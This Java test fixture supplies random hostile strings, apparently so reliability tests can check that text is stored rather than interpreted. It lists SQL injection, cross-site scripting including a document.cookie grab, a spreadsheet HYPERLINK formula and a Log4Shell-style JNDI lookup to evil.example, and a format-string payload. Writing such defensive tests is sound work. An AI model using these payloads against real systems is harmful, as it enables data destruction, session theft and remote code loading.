package dev.seqwatch.reliability;

import java.util.List;
import java.util.SplittableRandom;

/** Text that would do harm if a query, a page or a CSV consumer interpreted it instead of storing it. */
final class Hostile {
    static final List<String> TEXTS = List.of(
            "'; DROP TABLE event; --",
            "x' OR '1'='1",
            "\"; DELETE FROM label; --",
            "1); UPDATE model SET active = TRUE; --",
            "<script>alert('xss')</script>",
            "<img src=x onerror=alert(1)>",
            "</td></tr><tr><td>&amp;&lt;",
            "javascript:alert(document.cookie)",
            "=HYPERLINK(\"http://evil.example\",\"click\")",
            "${jndi:ldap://evil.example/a}",
            "%s%n%x",
            "\\N",
            "NULL",
            "ü字😀 ẞ");

    private Hostile() {
    }

    static String pick(SplittableRandom r) {
        return TEXTS.get(r.nextInt(TEXTS.size()));
    }
}
